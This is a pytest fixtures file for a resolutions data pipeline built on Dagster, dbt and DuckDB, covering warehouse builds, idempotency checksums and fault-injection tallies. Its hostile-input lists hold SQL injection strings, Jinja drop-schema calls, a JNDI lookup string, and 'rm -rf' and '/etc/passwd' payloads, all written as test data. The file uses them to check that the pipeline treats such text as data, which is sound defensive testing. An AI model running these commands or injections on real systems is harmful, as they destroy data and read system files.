"""Shared fixtures. ``published_warehouse`` builds a warehouse ONCE per session with the real
``resolutions run`` (Dagster + dbt + checks) on a copy of ``raw/``; reuse it, never modify it: copy it
(``copy_warehouse``) when a test needs to run the pipeline again."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pytest

ROOT = Path(__file__).resolve().parents[1]
RAW_SAMPLES = sorted(p for p in (ROOT / "raw").iterdir() if p.is_file() and not p.name.startswith("."))
RESOLUTIONS = [sys.executable, "-m", "pipelines.cli"]

# Columns that record when something was seen or built: they move on every run by design, so
# idempotency compares everything else.
VOLATILE_COLUMNS = {"first_seen", "last_seen", "first_seen_at", "last_seen_at", "started_at", "published_at"}


def cli_env(**extra: str) -> dict[str, str]:
    """A clean environment for a ``resolutions`` subprocess: no Dagster home (ephemeral instance)."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("RESOLUTIONS_", "DAGSTER_")) and k != "FUZZ_EXAMPLES"}
    env.update(extra)
    return env


def run_cli(*args: str, env: dict | None = None, timeout: float = 600, check_codes=None):
    """Run ``resolutions ARGS`` to completion; returns the CompletedProcess (stdout+stderr as text)."""
    proc = subprocess.run([*RESOLUTIONS, *args], cwd=ROOT, env=env or cli_env(), capture_output=True,
                          text=True, timeout=timeout)
    if check_codes is not None and proc.returncode not in check_codes:
        raise AssertionError(f"resolutions {' '.join(args)} exited {proc.returncode}\n"
                             f"--- stdout\n{proc.stdout[-6000:]}\n--- stderr\n{proc.stderr[-6000:]}")
    return proc


def table_checksums(db_path: Path, skip_schemas=("meta",)) -> dict[str, tuple[int, str]]:
    """``schema.table -> (row count, order-independent hash of all non-volatile columns)``."""
    out = {}
    with duckdb.connect(str(db_path), read_only=True) as con:
        tables = con.execute(
            "select table_schema, table_name from information_schema.tables "
            "where table_type = 'BASE TABLE' order by 1, 2").fetchall()
        for schema, table in tables:
            if schema in skip_schemas:
                continue
            cols = [r[0] for r in con.execute(
                "select column_name from information_schema.columns where table_schema = ? and table_name = ? "
                "order by ordinal_position", [schema, table]).fetchall() if r[0] not in VOLATILE_COLUMNS]
            ident = f'"{schema}"."{table}"'
            col_list = ", ".join(f'"{c}"' for c in cols) or "1"
            rows = con.execute(f"select {col_list} from {ident}").fetchall()
            digest = hashlib.sha256()
            for line in sorted(repr(r) for r in rows):
                digest.update(line.encode("utf-8", "backslashreplace"))
            out[f"{schema}.{table}"] = (len(rows), digest.hexdigest())
    return out


def copy_raw(dest: Path) -> Path:
    dest.mkdir(parents=True, exist_ok=True)
    for p in RAW_SAMPLES:
        shutil.copy(p, dest / p.name)
    return dest


def copy_warehouse(src: Path, dest: Path) -> Path:
    """A private copy of a warehouse dir (published file and kept versions) to run the pipeline on."""
    shutil.copytree(src, dest, ignore=shutil.ignore_patterns(".staging", ".lock", ".lock.guard"))
    return dest


@pytest.fixture(autouse=True)
def _the_sessions_main_module():
    """Streamlit's AppTest runs the dashboard as ``__main__`` and leaves it there: a process spawned
    by a later test would re-run the app before its target. Each test gets back the ``__main__`` it
    started with."""
    main = sys.modules.get("__main__")
    yield
    if main is not None and sys.modules.get("__main__") is not main:
        sys.modules["__main__"] = main


@pytest.fixture(scope="session")
def session_raw_dir(tmp_path_factory) -> Path:
    return copy_raw(tmp_path_factory.mktemp("session") / "raw")


@pytest.fixture(scope="session")
def published_warehouse(tmp_path_factory, session_raw_dir) -> Path:
    """The warehouse dir of one real ``resolutions run`` over a copy of raw/ (exit 0 asserted), recorded
    in a Dagster instance of its own as ``make run`` records it (``session_dagster_home``)."""
    session = tmp_path_factory.mktemp("session")
    wh, home = session / "warehouse", session / "dagster_home"
    home.mkdir()
    shutil.copy(ROOT / "dagster.yaml", home / "dagster.yaml")
    proc = run_cli("run", "--raw-dir", str(session_raw_dir), "--warehouse-dir", str(wh),
                   env=cli_env(DAGSTER_HOME=str(home)), check_codes={0})
    assert (wh / "warehouse.duckdb").exists(), proc.stdout
    (wh.parent / "run.stdout").write_text(proc.stdout)
    return wh


@pytest.fixture(scope="session")
def session_dagster_home(published_warehouse) -> Path:
    """The Dagster instance folder the session's run was recorded in."""
    return published_warehouse.parent / "dagster_home"


@pytest.fixture(scope="session")
def published_run_stdout(published_warehouse) -> str:
    """What ``resolutions run`` printed while building ``published_warehouse``."""
    return (published_warehouse.parent / "run.stdout").read_text()


# ---------------------------------------------------------------------------------------------
# Hostile and bad inputs, shared by test_quarantine.py, test_hostile_input.py and test_pipeline_run.py

HOSTILE_NAMES = [
    "it's \"quoted\" 12.txt",
    "semi;colon; drop table raw.raw_documents;--.txt",
    "x'); delete from raw.raw_clauses where ('1'='1.md",
    "dots..in..name.txt",
    "with spaces  and\ttab.txt",
    "резолюция 77.txt",
    "決議 第5号.md",
    "{{ run_query('drop schema raw cascade') }}.txt",
]
HOSTILE_TEXTS = [
    "Robert'); DROP TABLE raw.raw_documents; --",
    "{{ run_query('drop schema main cascade') }} and {% for x in range(10**9) %}{% endfor %}",
    "${jndi:ldap://example.invalid/a} $(rm -rf /) `touch /tmp/pwned` ; COPY main.fct_clauses TO '/tmp/x.csv'",
    "```sh\nrm -rf ~\n```\n<script>alert(1)</script> ATTACH '/etc/passwd' AS p;",
]


def hostile_document(i: int, extra: str) -> str:
    """A small but genuine resolution whose clauses carry ``extra`` (SQL, Jinja, shell...)."""
    return (
        f"RESOLUTION {900 + i}\n\nON TESTING HOSTILE INPUT NUMBER {i}\n\nThe Assembly,\n\n"
        f"1. Recalling its previous resolutions on the matter, including the text \"{extra}\";\n\n"
        f"2. Noting that {extra} is only text;\n\n"
        f"3. Urges member governments:\n\n"
        f"a. to spend at least 2% of GDP on defence by 2030;\n\n"
        f"b. to treat \"{extra}\" as data and nothing else;\n\n"
        f"4. Calls on parliaments to remain vigilant, number {i};\n"
    )


def write_bad_inputs(raw: Path, keep_for_duplicates: Path) -> dict[str, str]:
    """Write one file per bad-input class into ``raw``; returns ``file name -> expected reason``."""
    expected = {}
    (raw / "empty.txt").write_bytes(b"")
    expected["empty.txt"] = "empty"
    (raw / "whitespace.md").write_bytes(b"  \n\t\n")
    expected["whitespace.md"] = "empty"
    (raw / "scan.txt").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8)
    expected["scan.txt"] = "damaged_pdf"  # a PDF header: read as a PDF, which it is not
    (raw / "image.html").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    expected["image.html"] = "binary"
    (raw / "nul-bytes.txt").write_bytes(b"1. Urges\x00\x00\x00 governments\x00 to act;\x00" * 50)
    expected["nul-bytes.txt"] = "binary"
    utf16 = ("1. Urges governments to act;\n" * 20).encode("utf-16-le")
    (raw / "broken-utf16.txt").write_bytes(utf16 + b"\x00\xd8A\x00")  # a lone surrogate
    expected["broken-utf16.txt"] = "undecodable"
    (raw / "letter.txt").write_text("Dear colleagues,\nthank you for the lovely dinner.\nBest regards\n")
    expected["letter.txt"] = "no_clauses"
    (raw / "repeated-markers.txt").write_bytes(b"RESOLUTION 7\n\nThe Assembly,\n\n" + b"1. " * 20000 + b"\n")
    expected["repeated-markers.txt"] = "no_clauses"
    with open(raw / "huge-200mb.txt", "wb") as fh:  # sparse: 200 MB on paper, nothing on disk
        fh.truncate(200 * 1024 * 1024)
    expected["huge-200mb.txt"] = "too_large"
    shutil.copy(keep_for_duplicates, raw / f"copy of {keep_for_duplicates.name}")
    expected[f"copy of {keep_for_duplicates.name}"] = "duplicate_content"
    (raw / f"{keep_for_duplicates.stem}.htm").write_text(
        "<h1>RESOLUTION 1</h1><p>The Assembly,</p><p>1. Urges governments to act;</p>", encoding="utf-8")
    expected[f"{keep_for_duplicates.stem}.htm"] = "duplicate_document"
    (raw / "minutes.docx").write_bytes(b"PK\x03\x04 not really a docx")
    expected["minutes.docx"] = "binary"  # read as Word since .docx input exists
    os.symlink("/etc/hostname", raw / "outside-link.txt")
    expected["outside-link.txt"] = "outside_raw_dir"
    os.symlink(raw / "no-such-file.txt", raw / "dangling-link.txt")
    expected["dangling-link.txt"] = "not_a_file"
    (raw / ".hidden-draft.txt").write_text("1. Urges nobody;\n")  # hidden: ignored, never loaded
    return expected


def write_hostile_documents(raw: Path) -> dict[str, int]:
    """Genuine documents under hostile names and with hostile text; returns ``name -> index``."""
    out = {}
    for i, name in enumerate(HOSTILE_NAMES):
        (raw / name).write_text(hostile_document(i, HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]), encoding="utf-8")
        out[name] = i
    # a name that is not valid UTF-8 (bytes on disk), stored with backslash escapes
    bad = os.fsencode(raw) + b"/latin1-r\xe9solution.txt"
    with open(bad, "w", encoding="utf-8") as fh:
        fh.write(hostile_document(len(HOSTILE_NAMES), "plain text"))
    out["latin1-r\\xe9solution.txt"] = len(HOSTILE_NAMES)
    return out


# ---------------------------------------------------------------------------------------------
# Runs on private copies of the session warehouse (each one real `resolutions run`)

READER = r"""
import sys, duckdb
con = duckdb.connect(sys.argv[1], read_only=(sys.argv[2] == "ro"))
def snap():
    v = con.execute("select max(version) from meta.publish_log").fetchone()[0]
    n = con.execute("select count(*) from main.fct_clauses").fetchone()[0]
    return f"{v} {n}"
print("BEFORE", snap(), flush=True)
sys.stdin.readline()
print("AFTER", snap(), flush=True)
"""


class Reader:
    """A separate process holding a DuckDB connection to the published file until told to finish."""

    def __init__(self, db: Path, mode: str):
        self.proc = subprocess.Popen([sys.executable, "-c", READER, str(db), mode], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.before = self.proc.stdout.readline().split()
        if not self.before:
            raise AssertionError(f"reader did not start: {self.proc.stderr.read()}")

    def finish(self) -> list[str]:
        self.proc.stdin.write("go\n")
        self.proc.stdin.flush()
        after = self.proc.stdout.readline().split()
        self.proc.wait(timeout=30)
        return after


def db_sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="session")
def rerun_with_readers(published_warehouse, session_raw_dir, tmp_path_factory):
    """Run again on unchanged input while another process holds the published file open read-only.
    ``--full-refresh``: a rebuild and a publish, which an unchanged input alone no longer starts."""
    base = tmp_path_factory.mktemp("rerun")
    wh = copy_warehouse(published_warehouse, base / "warehouse")
    db = wh / "warehouse.duckdb"
    before = table_checksums(db)
    reader = Reader(db, "ro")
    started = time.monotonic()
    proc = run_cli("run", "--raw-dir", str(session_raw_dir), "--warehouse-dir", str(wh), "--full-refresh",
                   timeout=900)
    seconds = time.monotonic() - started
    reader.after = reader.finish()
    fresh = Reader(db, "ro")
    fresh.finish()
    return {"dir": wh, "before": before, "after": table_checksums(db), "proc": proc, "seconds": seconds,
            "reader": reader, "fresh": fresh}


@pytest.fixture(scope="session")
def messy_run(published_warehouse, tmp_path_factory):
    """From the session warehouse: one sample changed, one removed, every bad-input class added and
    genuine documents under hostile names with SQL/Jinja/shell text. One real run."""
    base = tmp_path_factory.mktemp("messy")
    wh = copy_warehouse(published_warehouse, base / "warehouse")
    raw = copy_raw(base / "raw")
    changed, removed = raw / RAW_SAMPLES[0].name, raw / RAW_SAMPLES[-1].name
    text = changed.read_text(encoding="utf-8")
    changed.write_text(text[: text.rstrip().rfind("\n\n")] + "\n", encoding="utf-8")  # drop the last clause
    removed.unlink()
    expected_bad = write_bad_inputs(raw, changed)
    hostile = write_hostile_documents(raw)
    listing = sorted(os.listdir(os.fsencode(raw)))
    before_sha = db_sha256(wh / "warehouse.duckdb")
    proc = run_cli("run", "--raw-dir", str(raw), "--warehouse-dir", str(wh), timeout=900)
    return {"dir": wh, "raw": raw, "proc": proc, "changed": changed.name, "removed": removed.name,
            "expected_bad": expected_bad, "hostile": hostile, "listing_before": listing,
            "published_sha_before": before_sha, "session_tables": set(table_checksums(published_warehouse
                                                                                     / "warehouse.duckdb"))}


def private_copy(published_warehouse: Path, tmp_path: Path) -> Path:
    """A copy of the published warehouse file in ``tmp_path``, for a test that writes to it."""
    db = tmp_path / "warehouse.duckdb"
    shutil.copy(published_warehouse / "warehouse.duckdb", db)
    return db


def run_dbt(command: str, db: Path, tmp_path: Path, *args: str) -> tuple[subprocess.CompletedProcess, Path]:
    """``dbt COMMAND ARGS`` of the project on ``db`` in a process of its own: the process and the path
    of its run_results.json."""
    from pipelines.defs.dbt.project import DBT_DIR

    target = tmp_path / "target"
    proc = subprocess.run(
        [str(Path(sys.executable).with_name("dbt")), command, *args, "--project-dir", str(DBT_DIR),
         "--profiles-dir", str(DBT_DIR), "--target-path", str(target), "--log-path", str(tmp_path)],
        env={**os.environ, "RESOLUTIONS_DB_PATH": str(db)}, capture_output=True, text=True, timeout=600)
    return proc, target / "run_results.json"


def query(db: Path, sql: str, params=()):
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(sql, list(params)).fetchall()


# ---------------------------------------------------------------------------------------------
# Fault-injection tally: every test marked ``scenario("fault")`` or ``scenario("bad_input")`` is one
# scenario tried; it is held when the test passed. The session ends with "N tried, N held".

_SCENARIOS: dict[str, dict[str, list[str]]] = {}


def pytest_configure(config):
    config.addinivalue_line("markers", "scenario(kind): a fault-injection scenario (fault or bad_input), tallied")


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    mark = item.get_closest_marker("scenario")
    if mark is None or not (report.when == "call" or (report.when == "setup" and not report.passed)):
        return
    entry = _SCENARIOS.setdefault(mark.args[0], {"tried": [], "held": []})
    entry["tried"].append(item.nodeid)
    if report.passed:
        entry["held"].append(item.nodeid)


def pytest_terminal_summary(terminalreporter):
    if not _SCENARIOS:
        return
    tried = sum(len(v["tried"]) for v in _SCENARIOS.values())
    held = sum(len(v["held"]) for v in _SCENARIOS.values())
    by_kind = ", ".join(f"{k}: {len(v['held'])}/{len(v['tried'])} held" for k, v in sorted(_SCENARIOS.items()))
    terminalreporter.write_line(f"fault injection: {tried} tried, {held} held ({by_kind})")
    for v in _SCENARIOS.values():
        for nodeid in sorted(set(v["tried"]) - set(v["held"])):
            terminalreporter.write_line(f"  NOT HELD {nodeid}")
